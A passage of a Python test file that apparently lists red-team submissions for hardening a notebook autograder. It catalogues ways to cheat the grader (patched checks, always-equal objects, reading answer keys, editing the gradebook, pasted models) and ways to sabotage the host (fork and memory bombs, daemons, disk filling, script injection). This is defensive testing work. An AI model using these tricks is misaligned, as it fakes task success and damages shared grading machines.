       _wrong_with(None, PATCH_CHECK, at="qkv_true", where="after"), WRONG_01),
    _e("rt_eq_subclass", "self_attention returns an ndarray subclass equal to anything (also for np.allclose)",
       _wrong_with("self_attention_def", EQ_SUBCLASS), WRONG_01),
    _e("rt_eq_object", "self_attention returns an object whose __eq__ is always true",
       _wrong_with("self_attention_def", EQ_OBJECT), WRONG_01),
    _e("rt_showtraceback", "InteractiveShell.showtraceback overridden: no error output ever",
       _wrong_with(None, SHOWTRACEBACK), WRONG_01),
    _e("rt_input_transformer", "an IPython input transformer rewrites test cells and probes to print OK",
       _wrong_with(None, INPUT_TRANSFORMER), WRONG_01),
    _e("rt_pre_run_cell", "a pre_run_cell hook re-patches the checks and rewrites test cells before they run",
       _wrong_with(None, PRE_RUN_CELL), WRONG_01),
    _e("rt_copies_printed_values", "returns the book's printed X' when given the book's X, wrong code otherwise",
       _wrong_with("self_attention_def", COPIES_PRINTED_VALUES), WRONG_01),
    # reading what the kernel must not see
    _e("rt_read_solutions", "runs the answer key's cells, read from solutions/ (absolute and ../ paths)",
       _steal_from(_solutions), WRONG_01),
    _e("rt_read_source", "runs the source notebook's solutions, read from source/ (absolute and ../ paths)",
       _steal_from(_source), WRONG_01),
    _e("rt_read_other_student", "runs another student's cells, read from the course's submitted/ and autograded/",
       _steal_from(_other_student), WRONG_01),
    _e("rt_read_gradebook", "reads the gradebook's cells (hidden tests) with sqlite3",
       _steal_from(_gradebook), WRONG_01),
    _e("rt_network", "fetches the answer key from a server on 127.0.0.1",
       _steal_from(_network), WRONG_01),
    _e("rt_import_grader", "imports grader.reference and uses its softmax and self_attention",
       _wrong_with("self_attention_def", IMPORTS_GRADER), WRONG_01),
    # writing where it must not
    _e("rt_write_canaries", "creates files in the repo, /tmp, $HOME, the course and the submission folders",
       _write_canaries("rt_write_canaries"), WRONG_01, canaries=lambda ctx: _canaries(ctx, "rt_write_canaries")),
    _e("rt_write_gradebook", "sets every grade to 100 and adds a student, with sqlite3",
       _wrong_with(None, WRITE_GRADEBOOK.replace("@@STUDENT@@", repr(CANARY_STUDENT))), WRONG_01),
    # taking the kernel down
    _e("rt_sys_exit", "self_attention calls sys.exit", _wrong_with("self_attention_def", SYS_EXIT_IN_ANSWER),
       WRONG_01),
    _e("rt_segfault", "self_attention segfaults through ctypes (the kernel dies at its first call)",
       _wrong_with("self_attention_def", SEGFAULT), WRONG_01),
    _e("rt_uninterruptible_loop", "a loop that ignores SIGINT, right after the imports",
       _wrong_with(None, UNINTERRUPTIBLE), WRONG_01),
    _e("rt_sys_exit_at_end", "the answer key, then sys.exit() in a last cell", _key_with("import sys\nsys.exit(0)"),
       FULL),
    _e("rt_os_exit_at_end", "the answer key, then os._exit(0) in a last cell (the kernel dies after every test)",
       _key_with("import os\nos._exit(0)"), FULL),
    _e("rt_os_exit_midway", "the answer key, with os._exit(0) after the softmax test (the kernel dies there)",
       _key_with("import os\nos._exit(0)", where="after", at="test_softmax"), ONLY_FIRST_TWO),
    # (Not IPython's exit() midway: ipykernel 7 stops the kernel at a moment that varies from run
    # to run, so the parts after it score or not by chance. os._exit above is the same case, fixed.)
    _e("rt_infinite_loop", "the answer key, with `while True: pass` after the first test",
       _key_with("while True:\n    pass", where="after", at="test_qkv_loop"), FULL),
    _e("rt_fork_bomb", "the answer key, with a fork bomb (3 s) after the first test",
       _key_with(FORK_BOMB, where="after", at="test_qkv_loop"), FULL,
       plain="needs nproc limited, as an unprivileged user"),
    _e("rt_memory_bomb", "the answer key, with a memory bomb (256 MiB at a time) after the first test",
       _key_with(MEMORY_BOMB, where="after", at="test_qkv_loop"), FULL),
    _e("rt_memory_children", "the answer key, with four forked children of 1.5 GiB each held at once after the first "
       "test (each under the per-process limit; 6 GiB together)",
       writes(lambda ctx: insert_after(key_notebook(), "test_qkv_loop", fill(MEMORY_CHILDREN, ctx))), FULL,
       plain="it would hold 6 GiB of the grading machine's memory"),
    _e("rt_output_flood", "the answer key, with 100 MB of output after the first test",
       _key_with(OUTPUT_FLOOD, where="after", at="test_qkv_loop"), FULL),
    _e("rt_daemon", "the answer key, with processes that try to outlive the kernel",
       writes(lambda ctx: append(key_notebook(), fill(DAEMON, ctx, MARK=daemon_mark(ctx)))), FULL, daemon=True),
    # broken files
    _e("rt_invalid_json", "not JSON", _write_bytes(b'{"cells": [ this is not json'), ZERO_01, reason_has="JSON"),
    _e("rt_empty_file", "an empty file", _write_bytes(b""), ZERO_01, reason_has="empty"),
    _e("rt_not_utf8", "the answer key, saved as latin-1 (not UTF-8)", _write_bytes(_not_utf8), ZERO_01,
       reason_has="UTF-8"),
    _e("rt_nbformat3", "the answer key, saved as nbformat 3", _write_bytes(_nbformat3), FULL),
    # a browser's second download is taken when it is the only notebook of its name; two such copies are not
    _e("rt_renamed", "the answer key, saved as '01_self_attention (1).ipynb' (a browser's second download)",
       _renamed, FULL),
    _e("rt_renamed_twice", "the answer key, saved as '01_self_attention (1).ipynb' and '01_self_attention (2).ipynb'",
       _renamed_twice, ZERO_01, reason_has=f"{A01} (2).ipynb"),
    _e("rt_symlink_to_solutions", "the notebook is a symlink to the repo's answer key", _symlinked, ZERO_01,
       reason_has="link", plain="the symlink is followed by the course's intake, not by nbgrader"),
    _e("rt_wrong_assignment", "notebook 02's answer key handed in as notebook 01", _wrong_assignment, ZERO_01),
    _e("rt_extra_files", "the answer key, with a second notebook, a .py, an 8 MiB file, a folder, odd names",
       _extra_files, FULL),
    # edited cells
    _e("rt_duplicated_cells", "the answer key, with solution and test cells duplicated",
       _edited_key(_duplicated), FULL),
    _e("rt_reordered_harmless", "the answer key, cells moved where it does not matter",
       _edited_key(_reordered_harmless_cells), FULL),
    _e("rt_reordered_late_definition", "the answer key, self_attention defined after its test",
       _edited_key(_late_definition), NO_SELF_ATTENTION),
    _e("rt_deleted_solution_cell", "the answer key without the self_attention cell",
       _edited_key(_delete("self_attention_def")), NO_SELF_ATTENTION),
    _e("rt_deleted_test_cells", "the wrong answer without the softmax and self_attention test cells",
       _edited_wrong(_delete("test_softmax", "test_self_attention")), WRONG_01),
    _e("rt_test_cell_to_markdown", "the wrong answer, the self_attention test cell turned into markdown",
       _edited_wrong(_to_markdown("test_self_attention")), WRONG_01),
    # nbgrader puts back the type of every cell it tracks (OverwriteCells), so the code runs as written
    _e("rt_solution_cell_to_markdown", "the answer key, the self_attention cell turned into markdown",
       _edited_key(_to_markdown("self_attention_def")), FULL),
    # A slip costs only the cell it touches (issue 25): graded and locked cells are graded as handed out, by
    # grade_id, and the note at the top of the notebook (and the report) says what was put back
    _e("rt_metadata_tamper", "the wrong answer; test cells' points, solution and grade flags changed; a bonus test",
       _edited_wrong(_tamper_metadata), WRONG_01, reason_has="put back as handed out"),
    _e("rt_slip_added_graded_cell", "the answer key with a graded cell of the student's own (50 points)",
       _edited_key(_added_graded_cell), FULL, reason_has="graded as an ordinary cell"),
    _e("rt_slip_test_made_solution", "the answer key; a test cell's metadata says it is an answer cell",
       _edited_key(_test_made_solution), FULL, reason_has="put back as handed out"),
    _e("rt_slip_tests_deleted", "the answer key with every test cell deleted", _edited_key(_tests_deleted), FULL,
       reason_has="was deleted"),
    # lateness (deadlines.toml: LATENESS, due 2026-02-01 17:00 UTC; a time in doubt counts late)
    _lateness("rt_on_time", "notebook 03's answer key, saved and stamped on 2026-01-20", b"2026-01-20 10:00:00 UTC",
              "2026-01-20 09:59:00", late=False),
    _lateness("rt_late_backdated", "notebook 03's answer key saved on 2026-02-03, its timestamp.txt says 2026-01-20",
              b"2026-01-20 10:00:00 UTC", "2026-02-03 09:00:00", late=True),
    _lateness("rt_late_unreadable", "a timestamp.txt of hour 25", b"2026-01-20 25:00:00 UTC", "2026-01-20 09:00:00",
              late=True),
    _lateness("rt_late_relative", "a timestamp.txt that says 'January 20', no year", b"January 20",
              "2026-01-20 09:00:00", late=True),
    _lateness("rt_late_offset_word", "a timestamp.txt in UTC+14 (dateutil reads it as UTC-14)",
              b"2026-01-20 10:00:00 UTC+14", "2026-01-20 09:00:00", late=True),
    _lateness("rt_late_huge", "a timestamp.txt of 2 MB of digits", b"1" * 2_000_000, "2026-01-20 09:00:00", late=True),
    _lateness("rt_late_nul", "a timestamp.txt with a NUL byte in it", b"2026-01-20\x00 10:00:00 UTC",
              "2026-01-20 09:00:00", late=True),
    _lateness("rt_late_missing", "no timestamp.txt", None, "2026-01-20 09:00:00", late=True),
    # notebook 07 teaches the backward pass: central differences at any step earn nothing on its parts
    *[_e(f"rt_finite_differences_{step}", f"notebook 07: every backward pass by central differences of the notebook's "
         f"forward functions, step {step}", writes(lambda ctx, step=step: submission(Student(
             A07, {}, cells={cell: source.replace("h=1e-5", f"h={step}") for cell, source in FINITE_DIFFERENCES.items()})),
             A07), STUDENTS_07["finite_differences"].expected, assignment=A07, plain="compare.py sets up notebook 01 only")
      for step in ("1e-3", "1e-5", "1e-7")],
    _e("rt_host_layout", "the answer key, then a cell that reads the command line of the sandbox's pid 1",
       _key_with(HOST_LAYOUT), FULL),
    _e("rt_kernelspec", "the answer key, its kernelspec says bash", _edited_key(_kernelspec), FULL),
    _e("rt_forged_verdict_metadata", "the answer key with verdicts forged in its metadata: a formula as a "
       "named mistake on the written answer, a number as a test cell's verdict", _edited_key(_forged_verdicts), FULL),
    _e("rt_forged_report_shape", "every probe report rewritten to claim shape [2**32, 2**32] with no data",
       _wrong_with(None, FORGED_SHAPE), WRONG_01),
    # neighbours, the host and the instructor (issue 14)
    _e("rt_poison_tmp", "the wrong answer; fills its home, /tmp, /dev/shm and the socket directory, then makes the "
       "files undeletable", _wrong_with(None, POISON_TMP, where="after", at="test_self_attention"), WRONG_01,
       plain="it would fill the grading machine's own disk"),
    _e("rt_cpu_hog", "the answer key, then 200 busy processes in sessions of their own, left running",
       writes(lambda ctx: append(key_notebook(), fill(CPU_HOG, ctx, MARK=daemon_mark(ctx)))), FULL, daemon=True,
       plain="200 busy processes would run on the grading machine for the rest of the run"),
    _e("rt_display_flood", "the answer key, then 450 MiB of HTML display data in one cell",
       writes(lambda ctx: append(key_notebook(), fill(DISPLAY_FLOOD, ctx, MIB=450))), FULL),
    _e("rt_deep_json", "the answer key, then a JSON display nested 800 deep",
       writes(lambda ctx: append(key_notebook(), DEEP_JSON)), FULL),
    _e("rt_terminal_injection", "the answer key, then escape sequences and a fake grade table written to fd 1 and "
       "2 and to sys.__stderr__", writes(lambda ctx: append(key_notebook(), fill(TERMINAL, ctx,
                                                                               MARKER=terminal_marker(ctx)))), FULL),
    _e("rt_active_content", "the answer key, then a <script>, an onerror handler and a Javascript output",
       writes(lambda ctx: append(key_notebook(), fill(ACTIVE_CONTENT, ctx, MARKER=active_marker(ctx)))), FULL),
    _e("rt_written_payload", "the wrong answer; its written answer is a spreadsheet formula, a fake verdict and "
       "HTML with a script", _edited_wrong(_written_payload), WRONG_01),
    _e("rt_lookup_table", "the wrong answer, printing the kernel's history; self_attention is a lookup table of "
       "the right answers for every input the same hand-in drew before this change",
       writes(lookup_table_notebook), WRONG_01),
    # notebook 09: the trained model is the one the student's train_step trains under the probe, judged by the course's model_forward
    _e("rt_hard_coded_model", "notebook 09's answer key, then train_step replaced by one that does nothing and "
       "model_forward by one that copies the answer from the input (its own accuracy check says 100%)",
       _key_09_with(HARD_CODED_MODEL, "test_train_step"), dict(FULL_09, test_trained_model=0), assignment=A09,
       reason_has="not trained", plain="compare.py sets up notebook 01 only"),
    # notebook 02: whether an argument changed in place is decided on the grading side, from its bytes; and since
    # attacks7 (a patched np.linalg.svd that centres the data), a notebook that replaced numpy's own functions
    # earns nothing on the parts checked after it, where it kept the honest 1.33 and 3 before
    _e("rt_in_place_hidden", "notebook 02: softmax_cols subtracts the maximum from the caller's scores in place, "
       "and the next cell makes np.array_equal, np.allclose, np.isclose and np.testing always pass",
       writes(lambda ctx: insert_after(submission(STUDENTS_02["softmax_cols_in_place"]), "softmax_cols_def",
                                       PATCH_NUMPY), A02),
       dict(STUDENTS_02["softmax_cols_in_place"].expected, test_softmax_cols=0, test_scaled_attention=0),
       assignment=A02, reason_has="replaced numpy's own", plain="compare.py sets up notebook 01 only"),
    # the course's helpers never reach a student's kernel: a part is judged with them in a kernel of its own
    _e("rt_keeps_helpers_07", "notebook 07 with softmax_backward wrong (no -a a^T term): attention_backward keeps "
       "the course's softmax_backward when it is judged with it (frames, gc, globals, a file) and a last cell "
       "prints it", _keeps_helpers(lambda: submission(STUDENTS_07["softmax_backward_no_outer"]), A07,
                                   "attention_backward", ["softmax_backward"], "attention_backward_def"),
       STUDENTS_07["softmax_backward_no_outer"].expected, assignment=A07, plain="compare.py sets up notebook 01 only"),
    _e("rt_keeps_helpers_09", "notebook 09 as handed out, with a train_step that does nothing but keep the course's "
       "cross_entropy and adam_step when it is judged with them; after the training cell, it trains with them",
       _keeps_helpers(lambda: nbformat.read(str(RELEASE / A09 / f"{A09}.ipynb"), as_version=4), A09, "train_step",
                      ["cross_entropy", "adam_step"], "train_step_def", "training", TRAINS_WITH_KEPT_HELPERS),
       {part: 0 for part in FULL_09}, assignment=A09, plain="compare.py sets up notebook 01 only"),
    _e("rt_pasted_model", "notebook 09 as handed out, with a model trained elsewhere pasted as literals after the "
       "training cell (and its accuracy)", writes(lambda ctx: insert_after(
           _release_09(), "training", fill(PASTED_MODEL, ctx, MODEL=_pasted_model())), A09),
       {part: 0 for part in FULL_09}, assignment=A09, plain="compare.py sets up notebook 01 only"),
    _e("rt_pasted_in_train_step", "notebook 09 as handed out, with a train_step that computes nothing but puts a "
       "model trained elsewhere in place of the parameters it is given",
       writes(lambda ctx: set_source(_release_09(), "train_step_def",
                                     fill(PASTED_IN_TRAIN_STEP, ctx, MODEL=_pasted_model())), A09),
       {part: 0 for part in FULL_09}, assignment=A09, reason_has="the last step your train_step took",
       plain="compare.py sets up notebook 01 only"),
    _e("rt_recomputing_cache", "notebook 11's answer key with a decode_step that ignores the cache it is given and "
       "runs the full forward pass on the tokens it remembers (its logits are right wherever it made the cache itself)",
       writes(lambda ctx: submission(Student(A11, FULL_11, cells={"decode_step_def": RECOMPUTING_STEP})), A11),
       dict(FULL_11, test_decode_step=0), assignment=A11, reason_has="wrong on every fresh input",
       plain="compare.py sets up notebook 01 only"),
    _e("rt_training_forever", "notebook 09's answer key, then a training loop with no end after the training cell",
       _key_09_with(TRAINING_FOREVER, "training"), FULL_09, assignment=A09,
       plain="compare.py sets up notebook 01 only"),
]

if len({e.name for e in ENTRIES}) != len(ENTRIES):
    raise ValueError("red-team corpus: two entries share a name")
